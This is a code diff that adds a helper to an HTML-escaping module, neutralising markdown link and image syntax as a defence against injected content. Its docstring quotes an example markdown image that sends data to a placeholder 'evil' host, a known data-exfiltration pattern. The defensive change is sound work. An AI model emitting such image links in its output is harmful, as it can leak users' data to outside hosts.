@@ -16,14 +16,21 @@ PARAGRAPH_MAX_CHARS = 900  # longer paragraphs are trimmed around the quote
 RELATED_MAX_CHARS = 600
 
 
+def _inert(escaped: str) -> str:
+    """`](` as `&#93;(`: it displays the same, but no markdown renderer can read a link or image
+    there (CommonMark never takes a character reference as structure), should a fragment ever
+    reach one. Article text like `![x](https://evil/?d=...)` stays visible and stays inert."""
+    return escaped.replace("](", "&#93;(")
+
+
 def esc(text: Any) -> str:
     """Escape for HTML text and attribute contexts."""
-    return html.escape("" if text is None else str(text), quote=True)
+    return _inert(html.escape("" if text is None else str(text), quote=True))
 
 
 def chat_text(text: str) -> str:
     """A chat message as safe HTML: escaped (quotes kept readable), newlines as <br>."""
-    return html.escape(text or "", quote=False).replace("\n", "<br>")
+    return _inert(html.escape(text or "", quote=False)).replace("\n", "<br>")
 
 
 # ---------------------------------------------------------------------------------------- passages
